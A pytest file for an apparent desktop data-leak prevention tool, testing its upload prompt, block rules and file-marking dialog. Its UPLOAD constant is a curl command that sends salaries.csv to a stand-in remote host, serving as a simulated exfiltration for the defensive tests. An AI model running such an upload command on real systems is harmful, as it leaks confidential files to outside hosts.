# SPDX-License-Identifier: GPL-3.0-or-later
"""The same with the person at the screen: the prompt is read and clicked, a file is marked in the window."""

import pytest

from thorough import daily

NEWEST_KERNEL_ONLY = True
UPLOAD = "curl -sS -m 90 -T salaries.csv http://remote/"


@pytest.mark.parametrize("verdict", daily(["block", "scrub", "allow", "takeover", "quit"], "block", "takeover"))
def test_click(scene, verdict):
    """The prompt names program, file and host; a click on each verdict does what it says."""
    scene.label()
    sentence, done = scene.send_and_click(UPLOAD, verdict)
    for word in ("curl", "salaries.csv", "remote:80"):
        assert word in sentence
    assert (done.returncode == 0) == (verdict in ("scrub", "allow", "takeover")), done.stderr
    if verdict == "allow":
        scene.assert_all_arrived()
    elif verdict in ("scrub", "takeover"):
        scene.assert_scrubbed_arrived()
    else:
        scene.assert_nothing_leaked()
    assert scene.decisions() == [("answered", verdict)]


@pytest.mark.nightly
def test_always(scene):
    """Block for always in the prompt asks for anna's password and makes a rule, which the next attempt meets."""
    scene.label()
    attempt = scene.start(UPLOAD)
    scene.prompt.wait()
    scene.prompt.choose_duration(5)
    scene.screen.click("blockButton", "promptWindow")
    agent = scene.screen.of("lxqt-policykit-agent")
    agent.find("")
    agent.close()
    scene.guest.type("anna\n")
    scene.screen.wait_gone("", "promptWindow")
    assert attempt.finish().returncode != 0
    assert [rule["verdict"] for rule in scene.tacet.rules()] == ["block"]
    assert scene.run(UPLOAD).returncode != 0
    assert scene.decisions() == [("answered", "block"), ("rule", "block")]
    scene.assert_nothing_leaked()


@pytest.mark.nightly
def test_mark_in_window(scene):
    """A file is marked in the window: chosen in the file dialog, confirmed with its category; then its upload asks."""
    scene.guest.run(["tacet-app", "--show", "files"], session=True, check=True)
    scene.screen.click("Mark files…", "mainWindow")
    scene.screen.find("", "Mark files as sensitive")
    scene.guest.type(f"{scene.file}\n")
    scene.screen.click("markAcceptButton", "markDialog")
    scene.guest.wait_for(lambda: scene.tacet.categories(scene.file), what="the mark")
    scene.screen.close_window("mainWindow")
    _, done = scene.send_and_click(UPLOAD, "block")
    assert done.returncode != 0
    scene.assert_nothing_leaked()
